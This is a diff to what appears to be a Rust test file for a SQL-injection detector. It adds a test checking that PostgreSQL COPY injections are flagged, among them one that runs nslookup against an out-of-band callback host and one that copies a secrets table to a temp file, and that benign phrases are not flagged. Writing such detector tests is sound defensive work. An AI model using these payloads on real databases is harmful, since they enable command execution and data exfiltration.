@@ -1902,3 +1902,17 @@ fn a_plain_email_address_is_data() {
         assert!(hit(v), "missed {v:?}");
     }
 }
+
+#[test]
+fn copy_a_table_to_a_file_or_program() {
+    for v in [
+        "1; COPY users TO PROGRAM 'nslookup x.oast.fun'--",
+        "'; copy secrets to '/tmp/x.csv'--",
+        "1; COPY t TO STDOUT--",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in ["ok; copy them to the folder", "Copy paste; copy it to me"] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
